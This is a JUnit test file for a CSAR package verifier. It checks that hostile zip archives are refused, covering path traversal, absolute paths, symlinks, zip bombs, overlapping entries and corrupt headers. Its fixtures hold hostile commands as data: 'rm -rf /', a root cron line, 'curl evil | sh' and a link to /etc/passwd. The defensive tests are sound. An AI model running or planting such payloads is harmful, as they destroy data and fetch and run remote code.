package org.vnfx.packages.csar;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The archive's own checks: paths that leave the package, links, duplicates, zip bombs, corrupt data. Each test
 * is the valid {@code vnf} fixture with one hostile entry; an archive that fails these checks is not read
 * further, so each finding is the only one.
 */
class ZipSafetyTest {
    @TempDir
    Path dir;

    Path csar;

    @BeforeEach
    void where() {
        csar = dir.resolve("p.csar");
    }

    List<String> refused(TestZip zip, VerifierOptions options) throws Exception {
        zip.write(csar);
        PackageRejectedException e = assertThrows(PackageRejectedException.class, () -> new CsarVerifier(options).verify(csar));
        return Fixtures.lines(e);
    }

    List<String> refused(TestZip zip) throws Exception {
        return refused(zip, VerifierOptions.DEFAULT.at(TestPki.NOW));
    }

    static TestZip base() throws Exception {
        return TestZip.of(Fixtures.files("vnf"));
    }

    @Test
    void aDotDotEntry() throws Exception {
        TestZip z = base();
        z.add("Files/../../evil.sh", "rm -rf /");
        assertEquals(List.of(csar + ": entry 'Files/../../evil.sh' has a '..' segment; entry paths must stay inside the package"), refused(z));
    }

    @Test
    void absoluteEntries() throws Exception {
        TestZip z = base();
        z.add("/etc/cron.d/evil", "* * * * * root sh");
        z.add("C:/Windows/evil.bat", "del");
        assertEquals(List.of(csar + ": entry '/etc/cron.d/evil' is an absolute path; entry paths are relative to the package root",
                csar + ": entry 'C:/Windows/evil.bat' is an absolute path; entry paths are relative to the package root"), refused(z));
    }

    @Test
    void aBackslashAnEmptySegmentAndAControlCharacter() throws Exception {
        TestZip z = base();
        z.add("Files\\evil.txt", "x");
        z.add("Files//a.txt", "x");
        z.add("Files/a\u0007.txt", "x");
        assertEquals(List.of(csar + ": entry 'Files\\evil.txt' has a backslash; entry paths are '/'-separated and relative to the package root",
                csar + ": entry 'Files//a.txt' has an empty or '.' segment; expected a plain relative path such as Files/a.txt",
                csar + ": entry 'Files/a\\u0007.txt' has a control character in its name"), refused(z));
    }

    @Test
    void aSymbolicLinkEntry() throws Exception {
        TestZip z = base();
        z.add("Files/passwd", "/etc/passwd").unixMode = 0120777;
        assertEquals(List.of(csar + ": entry 'Files/passwd' is a symbolic link; a package may hold only regular files and folders"), refused(z));
    }

    @Test
    void aFifoEntry() throws Exception {
        TestZip z = base();
        z.add("Files/pipe", "").unixMode = 0010644;
        assertEquals(List.of(csar + ": entry 'Files/pipe' is a special file (unix file type 010000); a package may hold only regular files and folders"),
                refused(z));
    }

    @Test
    void duplicateNamesAndNamesThatDifferOnlyInCase() throws Exception {
        TestZip z = base();
        z.add("Files/scripts/install.sh", "#!/bin/sh\ncurl evil | sh\n");
        z.add("Files/CONFIG/app.conf", "x");
        assertEquals(List.of(csar + ": entries 'Files/config/app.conf' and 'Files/CONFIG/app.conf' differ only in case; they would be one file on a case-insensitive file system",
                csar + ": entry 'Files/scripts/install.sh' appears 2 times; each path may appear once"), refused(z));
    }

    @Test
    void aFileWhereAFolderIsNeeded() throws Exception {
        TestZip z = base();
        z.add("Files", "not a folder");
        assertEquals(List.of(csar + ": entry 'Files' is a file, but entry 'Files/config/app.conf' needs a folder there"), refused(z));
    }

    @Test
    void aZipBombByRatio() throws Exception {
        TestZip z = base();
        z.add("Files/zeros.bin", new byte[4 << 20]);
        List<String> found = refused(z);
        long compressed;
        try (ZipArchive a = ZipArchive.open(csar, "x", ZipLimits.DEFAULT)) {
            compressed = a.entries().stream().filter(e -> e.name().equals("Files/zeros.bin")).findFirst().orElseThrow().compressedSize();
        }
        assertEquals(List.of(csar + ": entry 'Files/zeros.bin' declares 4194304 bytes from " + compressed + " compressed (ratio "
                + (4194304 / compressed) + "), more than the ratio limit of 100"), found);
    }

    @Test
    void aSmallFileOfZerosIsNoBomb() throws Exception {
        Map<String, byte[]> files = Fixtures.files("vnf");
        files.put("Files/config/app.conf", new byte[1 << 20]); // ratio about 1,000, but only 1 MiB
        csar = Fixtures.zip(files, dir.resolve("zeros.csar"));
        PackageRejectedException e = assertThrows(PackageRejectedException.class, () -> new CsarVerifier(VerifierOptions.DEFAULT).verify(csar));
        assertEquals("manifest-digests-match", e.report().errors().get(0).rule(), "only its digest is wrong: " + Fixtures.lines(e));
        assertEquals(1, e.report().errors().size(), Fixtures.lines(e).toString());
    }

    @Test
    void aHeaderThatLiesAboutTheSizeIsCaughtWhileInflating() throws Exception {
        Map<String, byte[]> files = Fixtures.files("vnf");
        int real = files.get("Files/config/app.conf").length;
        files.put("Files/config/app.conf", new byte[64 << 20]); // 64 MiB of zeros behind a header that says 'a few bytes'
        TestZip lying = new TestZip();
        files.forEach((name, data) -> {
            TestZip.Entry e = lying.add(name, data);
            if (name.equals("Files/config/app.conf")) e.declaredSize = real;
        });
        assertEquals(List.of(csar + ": entry 'Files/config/app.conf' inflates beyond the " + real + " bytes it declares"), refused(lying));
    }

    @Test
    void moreThanTheTotalLimit() throws Exception {
        long total = Fixtures.files("vnf").values().stream().mapToLong(b -> b.length).sum();
        assertEquals(List.of(csar + ": its entries declare " + total + " bytes uncompressed in total, more than the limit of 1000"),
                refused(base(), VerifierOptions.DEFAULT.withLimits(ZipLimits.DEFAULT.withMaxTotalBytes(1000))));
    }

    @Test
    void tooManyEntries() throws Exception {
        assertEquals(List.of(csar + ": has 8 entries, more than the limit of 5"),
                refused(base(), VerifierOptions.DEFAULT.withLimits(ZipLimits.DEFAULT.withMaxEntries(5))));
        TestZip many = base();
        for (int i = 0; i < 10_000; i++) many.add("Files/many/" + i, "");
        assertEquals(List.of(csar + ": has 10008 entries, more than the limit of 10000"), refused(many));
    }

    @Test
    void overlappingEntries() throws Exception {
        TestZip z = new TestZip();
        Fixtures.files("vnf").forEach(z::add);
        z.add("Files/a.bin", new byte[100]).extraCompressed = 40; // its data runs into the next entry's header
        z.add("Files/b.bin", new byte[100]);
        assertEquals(List.of(csar + ": entries 'Files/a.bin' and 'Files/b.bin' overlap in the archive (a zip bomb's trick); each entry needs bytes of its own"),
                refused(z));
    }

    @Test
    void encryptedAndUnknownMethodEntries() throws Exception {
        TestZip z = base();
        z.add("Files/secret", "x").flags |= 1;
        z.add("Files/bzip2", "x").method = 12;
        assertEquals(List.of(csar + ": entry 'Files/secret' is encrypted; package entries must be readable as they are",
                csar + ": entry 'Files/bzip2' uses compression method 12; expected stored (0) or deflated (8)"), refused(z));
    }

    @Test
    void corruptData() throws Exception {
        Path p = base().write(csar);
        byte[] bytes = Files.readAllBytes(p);
        int at = indexOf(bytes, "Files/config/app.conf".getBytes()) + "Files/config/app.conf".length() + 3; // inside its deflated data
        bytes[at] ^= 0x55;
        Files.write(p, bytes);
        PackageRejectedException e = assertThrows(PackageRejectedException.class, () -> new CsarVerifier(VerifierOptions.DEFAULT).verify(p));
        assertEquals("zip-format", e.report().errors().get(0).rule(), Fixtures.lines(e).toString());
        assertEquals(true, e.getMessage().startsWith(p + ": entry 'Files/config/app.conf' is corrupt: "), e.getMessage());
    }

    @Test
    void notAZip() throws Exception {
        Path p = Files.writeString(dir.resolve("p.csar"), "this is not a zip archive, just text long enough to be scanned");
        PackageRejectedException e = assertThrows(PackageRejectedException.class, () -> new CsarVerifier().verify(p));
        assertEquals(List.of(p + ": not a zip archive (no end of central directory record)"), Fixtures.lines(e));
        assertEquals(p + ": not a zip archive (no end of central directory record)", e.getMessage());
    }

    @Test
    void bytesAfterTheArchive() throws Exception {
        Path p = base().write(csar);
        Files.write(p, "#!/bin/sh\necho a polyglot\n".getBytes(), java.nio.file.StandardOpenOption.APPEND);
        PackageRejectedException e = assertThrows(PackageRejectedException.class, () -> new CsarVerifier().verify(p));
        assertEquals(List.of(p + ": 26 bytes after the end of the zip archive; a package ends with its end of central directory record"), Fixtures.lines(e));
    }

    /** CsarArchiveFuzzTest's first finding: the reader trusted the local header's name length and read past the file. */
    @Test
    void aLocalHeaderWhoseNameRunsPastTheCentralDirectory() throws Exception {
        Path p = base().write(csar);
        byte[] bytes = Files.readAllBytes(p);
        bytes[26] = (byte) 0xFF; // the first local header's name length: 65,535
        bytes[27] = (byte) 0xFF;
        Files.write(p, bytes);
        PackageRejectedException e = assertThrows(PackageRejectedException.class, () -> new CsarVerifier().verify(p));
        assertEquals(List.of(p + ": entry 'ChangeLog.txt': its local header's name runs past the central directory"), Fixtures.lines(e));
    }

    private static int indexOf(byte[] haystack, byte[] needle) {
        outer:
        for (int i = 0; i + needle.length <= haystack.length; i++) {
            for (int j = 0; j < needle.length; j++) if (haystack[i + j] != needle[j]) continue outer;
            return i;
        }
        throw new IllegalArgumentException("not found");
    }
}
